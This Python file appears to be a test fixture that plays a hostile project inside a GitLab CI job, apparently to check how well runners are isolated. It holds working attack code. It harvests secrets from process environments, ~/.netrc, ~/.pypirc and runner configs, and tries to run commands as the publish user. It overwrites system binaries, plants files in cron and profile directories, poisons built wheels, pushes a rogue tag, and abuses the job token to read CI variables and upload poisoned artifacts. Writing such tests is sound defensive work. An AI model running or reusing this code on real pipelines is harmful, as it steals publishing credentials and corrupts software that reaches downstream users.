# SPDX-License-Identifier: GPL-3.0-or-later
"""What a hostile project runs wherever its code runs: it looks for secrets, and tampers.

Its loot goes into the job user's home, where the test reads it. With the file `watch` beside it,
it looks at all processes again and again until the job user's home has a file `enough`.
"""

from __future__ import annotations

import glob
import os
import pwd
import ssl
import subprocess
import time
import urllib.error
import urllib.request

HOME = pwd.getpwuid(os.getuid()).pw_dir
OTHER = "gitlab-runner-publish"
LOOK = rf"""
cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline | tr '\0' '\n'
ps axeww
cat ~/.netrc ~/.pypirc ~/.config/pip/pip.conf
ls -laR /home/{OTHER} /etc/{OTHER}
cat /etc/{OTHER}/* /etc/gitlab-runner/*
grep -rsh -e TWINE -e pypi- /home /etc /tmp /var/tmp /dev/shm /run /srv /var/log | head -c 1000000
journalctl --no-pager | tail -c 1000000
sudo -n -u {OTHER} env
su - {OTHER} -c env </dev/null
systemd-run --user --quiet --wait --pipe env
systemd-run --quiet --wait --pipe --uid={OTHER} env
"""
TAMPER = r"""
program=$(readlink -f /usr/local/bin/runnerhost-release)
folder=$(dirname "$program")
for file in /usr/local/bin/* "$folder"/* "$folder"/current/bin/*; do
  echo 'echo evil' > "$file" || rm -f "$file"
done
for folder in "$folder" /usr/local/bin /etc/profile.d /etc/cron.d; do touch "$folder/evil.py"; done
# Once this job's script is over: if it lives longer, it changes what is checked and published.
setsid nohup bash -c 'while kill -0 PARENT; do sleep 0.05; done; while sleep 0.05; do
  for file in ~/builds/*/*/*/*/dist/*.whl; do echo poison >> "$file"; done
done' >/dev/null 2>&1 &
cd "$CI_PROJECT_DIR" && git -c http.sslVerify=false push "$CI_REPOSITORY_URL" HEAD:refs/tags/v9.9.9
"""


def run(script: str) -> str:
    """What a shell script says."""
    done = subprocess.run(
        ["timeout", "60", "bash", "-c", script], stdin=subprocess.DEVNULL, check=False,
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
    )  # fmt: skip
    return done.stdout.decode(errors="replace")


def shell() -> int:
    """The job's shell: the first of this user's processes that lead here."""
    found = pid = os.getpid()
    while pid > 1 and os.stat(f"/proc/{pid}").st_uid == os.getuid():
        found = pid
        with open(f"/proc/{pid}/stat", encoding="utf-8") as file:
            pid = int(file.read().rpartition(")")[2].split()[1])
        if not os.path.exists(f"/proc/{pid}"):
            break
    return found


def call(method: str, path: str, header: str, body: bytes | None = None) -> str:
    """GitLab's answer to the job's own token."""
    url = os.environ["CI_API_V4_URL"] + path
    headers = {header: os.environ["CI_JOB_TOKEN"]}
    if body is not None:
        kind = "application/json" if body.startswith(b"{") else "multipart/form-data; boundary=x"
        headers["Content-Type"] = kind
    request = urllib.request.Request(url, body, headers, method=method)
    try:
        context = ssl._create_unverified_context()
        with urllib.request.urlopen(request, timeout=10, context=context) as answer:
            said = answer.read().decode(errors="replace")
    except (urllib.error.URLError, OSError) as error:
        said = str(error)
    return f"{method} {path} {header}: {said}\n"


def ask_gitlab() -> str:
    """Everything that a job's token must not be enough for."""
    project, job = f"/projects/{os.environ['CI_PROJECT_ID']}", int(os.environ["CI_JOB_ID"])
    said = ""
    for header in ("JOB-TOKEN", "PRIVATE-TOKEN"):
        for path in (f"{project}/variables", "/groups/demo/variables", f"{project}/access_tokens"):
            said += call("GET", path, header)
        tag = b'{"tag_name": "v9.9.9", "ref": "main"}'
        said += call("POST", f"{project}/repository/tags", header, tag)
        said += call("POST", f"{project}/pipeline", header, b'{"ref": "v1.0.0"}')
    archive = (
        b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.zip"\r\n\r\n'
        b"poison\r\n--x--\r\n"
    )
    for number in range(max(job - 10, 1), job + 10):
        if number != job:
            path = f"/jobs/{number}/artifacts?artifact_format=zip&artifact_type=archive"
            said += call("POST", path, "JOB-TOKEN", archive)
            said += call("GET", f"/jobs/{number}/artifacts", "JOB-TOKEN")[:200] + "\n"
    return said


def watch() -> str:
    """What all processes ever had in their environment and arguments."""
    seen: set[bytes] = set()
    end = time.monotonic() + 240
    while not os.path.exists(f"{HOME}/enough") and time.monotonic() < end:
        for name in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
            try:
                with open(name, "rb") as file:
                    seen.update(file.read().split(b"\0"))
            except OSError:
                continue
        time.sleep(0.02)
    return b"\n".join(sorted(seen)).decode(errors="replace")


def main() -> None:
    """Leave the loot of this job."""
    folder = f"{HOME}/loot"
    os.makedirs(folder, exist_ok=True)
    loot = f"{folder}/{os.environ['CI_JOB_NAME']}-{os.environ['CI_JOB_ID']}"
    # A build runs setup.py several times.
    if os.path.exists(loot):
        return
    here = os.path.dirname(os.path.abspath(__file__))
    with open(loot, "w", encoding="utf-8") as file:
        file.writelines(f"{key}={value}\n" for key, value in os.environ.items())
        if os.path.exists(f"{here}/watch"):
            file.write(watch())
        else:
            file.write(run(LOOK) + run(TAMPER.replace("PARENT", str(shell()))) + ask_gitlab())
        file.write("\nthe end\n")


main()
